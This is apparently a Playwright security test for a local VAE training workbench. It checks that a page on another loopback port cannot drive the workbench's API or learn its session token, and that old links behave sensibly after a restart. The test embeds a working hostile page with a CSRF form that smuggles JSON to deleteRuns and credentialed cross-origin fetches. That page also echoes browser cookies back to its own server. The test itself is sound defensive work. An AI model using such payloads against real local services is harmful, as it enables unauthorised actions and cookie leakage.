// Browser mode against the browser it runs in (issue 12, finding 1; issue 13, item 1), in Debian's
// Chromium with two loopback servers:
// - a hostile page on another 127.0.0.1 port, in the same browser as the workbench, cannot tag,
//   delete or read runs (cookies ignore ports, and SameSite counts every port as the same site),
//   and the cookie its own server receives opens nothing;
// - after Ctrl-C and a second start on the same port, the new URL wins over the old cookie, and an
//   old link gets a page that says what to do, not JSON.
import { spawn, type ChildProcess } from 'node:child_process'
import fs from 'node:fs'
import http from 'node:http'
import net from 'node:net'
import os from 'node:os'
import path from 'node:path'
import { expect, test } from '@playwright/test'
import { CHROMIUM } from '../../playwright.config'

const ROOT = path.resolve(__dirname, '../..')
const SHOTS = path.join(ROOT, 'test-results', 'screenshots')
const BIN = path.join(ROOT, 'bin', 'vae-lab.js')
const chromiumMissing = !fs.existsSync(CHROMIUM)
  ? `no Chromium at ${CHROMIUM}: install it (apt-get install -y chromium) or set VAE_LAB_CHROMIUM`
  : null

test.skip(chromiumMissing !== null, chromiumMissing ?? '')
test.describe.configure({ mode: 'serial' })

interface Serving {
  child: ChildProcess
  url: string
  origin: string
  token: string
  port: number
  stop(): Promise<void>
}

/** `vae-lab serve` on `port` (0: any), resolved once it prints its URL. */
async function serve(db: string, port = 0): Promise<Serving> {
  const child = spawn(
    process.execPath,
    [BIN, 'serve', '--no-open', '--port', String(port), '--workers', '1', '--db', db],
    { cwd: ROOT, stdio: ['ignore', 'pipe', 'pipe'] }
  )
  let err = ''
  child.stderr!.on('data', (c: Buffer) => (err += c.toString()))
  const url = await new Promise<string>((resolve, reject) => {
    let out = ''
    const timer = setTimeout(() => reject(new Error(`no URL within 30 s: ${err}`)), 30_000)
    child.stdout!.on('data', (c: Buffer) => {
      out += c.toString()
      const m = /VAE Lab is at (http:\/\/127\.0\.0\.1:\d+\/\?token=[0-9a-f]+)/.exec(out)
      if (m) {
        clearTimeout(timer)
        resolve(m[1])
      }
    })
    child.once('exit', (code) => reject(new Error(`vae-lab serve exited with ${code}: ${err}`)))
  })
  const u = new URL(url)
  return {
    child,
    url,
    origin: u.origin,
    token: u.searchParams.get('token')!,
    port: Number(u.port),
    stop: async () => {
      if (child.exitCode !== null) return
      const exited = new Promise((r) => child.once('exit', r))
      child.kill('SIGINT')
      await exited
    }
  }
}

function freePort(): Promise<number> {
  return new Promise((resolve) => {
    const s = net.createServer().listen(0, '127.0.0.1', () => {
      const { port } = s.address() as net.AddressInfo
      s.close(() => resolve(port))
    })
  })
}

async function api<T>(s: Serving, method: string, args: unknown[] = []): Promise<T> {
  const r = await fetch(`${s.origin}/api/call/${method}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-vae-lab-token': s.token },
    body: JSON.stringify({ args })
  })
  const answer = (await r.json()) as { ok: boolean; value: T }
  if (!answer.ok) throw new Error(`${method}: ${JSON.stringify(answer)}`)
  return answer.value
}

/** The page another local program (a dev server, a notebook) might serve. */
function hostilePage(target: string): string {
  return `<!doctype html><title>innocent</title>
<iframe name="sink" style="display:none"></iframe>
<form id="f" action="${target}/api/call/deleteRuns" method="POST" enctype="text/plain" target="sink">
<input name='{"args":[[1,2]],"x":"' value='"}'></form>
<script>
(async () => {
  const report = {}
  const attempt = async (name, f) => { try { report[name] = await f() } catch (e) { report[name] = 'error: ' + e.message } }
  const plain = (method, args) => fetch('${target}/api/call/' + method, {
    method: 'POST', mode: 'no-cors', credentials: 'include',
    headers: { 'content-type': 'text/plain' }, body: JSON.stringify({ args }) }).then((r) => r.type)
  await attempt('tag', () => plain('tagRun', [1, 'pwned']))
  await attempt('rename', () => plain('renameRun', [1, 'pwned']))
  await attempt('read', () => fetch('${target}/api/call/listRuns', { method: 'POST', credentials: 'include',
    headers: { 'content-type': 'application/json' }, body: '{"args":[]}' }).then((r) => r.text()))
  await attempt('events', () => new Promise((resolve) => {
    const es = new EventSource('${target}/api/events', { withCredentials: true })
    es.onmessage = (m) => { es.close(); resolve('message: ' + m.data) }
    es.onerror = () => { es.close(); resolve('refused') }
    setTimeout(() => { es.close(); resolve('timeout') }, 3000)
  }))
  document.getElementById('f').submit()
  await new Promise((r) => setTimeout(r, 500))
  // Its own server sees whatever cookies the browser holds for 127.0.0.1.
  await attempt('echo', () => fetch('/echo', { credentials: 'include' }).then((r) => r.text()))
  await fetch('/report', { method: 'POST', body: JSON.stringify(report) })
  document.title = 'done'
})()
</script>`
}

let dir = ''
test.beforeAll(() => {
  if (!fs.existsSync(path.join(ROOT, 'out', 'renderer', 'index.html')))
    throw new Error('the app is not built: run `npm run build` first (npm run test:e2e does)')
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'vae-lab-e2e-security-'))
  fs.mkdirSync(SHOTS, { recursive: true })
})
test.afterAll(() => {
  if (dir) fs.rmSync(dir, { recursive: true, force: true })
})

test('a page on another loopback port cannot drive the workbench or learn its token', async ({
  page
}) => {
  const db = path.join(dir, 'cross.sqlite')
  const queued = spawn(process.execPath, [
    BIN,
    'train',
    '--latent',
    '2,3',
    '--epochs',
    '1',
    '--detach',
    '--db',
    db
  ])
  expect(await new Promise((r) => queued.once('exit', r))).toBe(0)
  // --workers 1 and two queued runs: they start training, which does not matter here.
  const workbench = await serve(db)
  const cookiesSeen: string[] = []
  let report: Record<string, string> = {}
  const evil = http.createServer((req, res) => {
    cookiesSeen.push(req.headers.cookie ?? '')
    if (req.url === '/report') {
      let body = ''
      req.on('data', (c: Buffer) => (body += c.toString()))
      req.on('end', () => {
        report = JSON.parse(body) as Record<string, string>
        res.end('ok')
      })
      return
    }
    res.writeHead(200, { 'content-type': req.url === '/echo' ? 'text/plain' : 'text/html' })
    res.end(req.url === '/echo' ? (req.headers.cookie ?? '') : hostilePage(workbench.origin))
  })
  await new Promise<void>((r) => evil.listen(0, '127.0.0.1', r))
  const evilOrigin = `http://127.0.0.1:${(evil.address() as net.AddressInfo).port}`
  try {
    // The user opens the workbench (the browser now holds its cookie), then the other page.
    await page.goto(workbench.url)
    await expect(page.getByRole('heading', { name: 'Runs', exact: true })).toBeVisible()
    await page.goto(`${evilOrigin}/`)
    await expect(page).toHaveTitle('done', { timeout: 20_000 })

    const runs = await api<{ id: number; name: string; tags: string[] }[]>(workbench, 'listRuns')
    expect(runs.map((r) => r.id)).toEqual([1, 2])
    expect(runs[0].name).not.toBe('pwned')
    const details = await api<{ run: { tags: string[] } }>(workbench, 'getRun', [1])
    expect(details.run.tags).toEqual([])
    expect(report.read).toMatch(/^error: /) // no CORS: nothing readable
    expect(report.events).not.toMatch(/^message/)
    // The browser hands the workbench's cookie to the other server: it is not the token, and
    // it opens no api call.
    const leaked = cookiesSeen.join('; ')
    expect(leaked).toContain(`vae_lab_${workbench.port}=`)
    expect(leaked).not.toContain(workbench.token)
    const value = new RegExp(`vae_lab_${workbench.port}=([0-9a-f]+)`).exec(leaked)![1]
    const withCookieValue = await fetch(`${workbench.origin}/api/call/listRuns`, {
      method: 'POST',
      headers: { 'x-vae-lab-token': value, cookie: `vae_lab_${workbench.port}=${value}` },
      body: '{"args":[]}'
    })
    expect(withCookieValue.status).toBe(401)
  } finally {
    evil.close()
    await workbench.stop()
  }
})

test('after Ctrl-C and a second start, the new URL wins over the old cookie, and an old link says what to do', async ({
  page
}) => {
  const db = path.join(dir, 'restart.sqlite')
  const port = await freePort()
  const first = await serve(db, port)
  await page.goto(first.url)
  await expect(page.getByRole('heading', { name: 'No runs yet' })).toBeVisible()
  await first.stop()

  const second = await serve(db, port)
  try {
    expect(second.token).not.toBe(first.token)
    // The browser still holds the first session's cookie for this port.
    expect((await page.context().cookies(second.origin)).map((c) => c.name)).toContain(
      `vae_lab_${port}`
    )
    await page.goto(second.url)
    await expect(page.getByRole('heading', { name: 'No runs yet' })).toBeVisible()
    await expect(page.locator('body')).not.toContainText('UNAUTHORIZED')
    await page.screenshot({ path: path.join(SHOTS, 'restart-1-new-url.png') })

    // The old link, opened again: a page for a person, not the api's JSON.
    const old = await page.goto(first.url)
    expect(old?.status()).toBe(401)
    expect(old?.headers()['content-type']).toContain('text/html')
    await expect(
      page.getByRole('heading', { name: 'This link is from an earlier session' })
    ).toBeVisible()
    await expect(page.locator('body')).toContainText('Use the URL vae-lab printed')
    await expect(page.locator('body')).toContainText(
      `VAE Lab is at http://127.0.0.1:${port}/?token=`
    )
    await page.screenshot({ path: path.join(SHOTS, 'restart-2-old-link.png') })

    // The bare address (no token) asks for the printed URL too; the api still answers JSON.
    await page.goto(`${second.origin}/`)
    await expect(page.getByRole('heading', { name: 'This address needs its token' })).toBeVisible()
    const call = await page.request.post(`${second.origin}/api/call/listRuns`, {
      data: { args: [] }
    })
    expect(call.status()).toBe(401)
    expect((await call.json()).error.code).toBe('UNAUTHORIZED')
  } finally {
    await second.stop()
  }
})
